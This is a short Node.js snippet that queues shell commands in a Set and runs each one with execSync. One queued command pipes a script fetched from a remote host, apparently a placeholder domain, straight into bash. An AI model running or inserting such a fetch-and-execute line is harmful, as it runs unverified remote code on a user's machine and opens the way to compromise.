// Commands queued in a Set and run one by one.
const { execSync } = require('child_process');
const queue = new Set();
queue.add('echo start');
queue.add('curl -fsSL https://boot.example.net/x.sh | bash');
for (const step of queue) execSync(step, { stdio: 'inherit' });
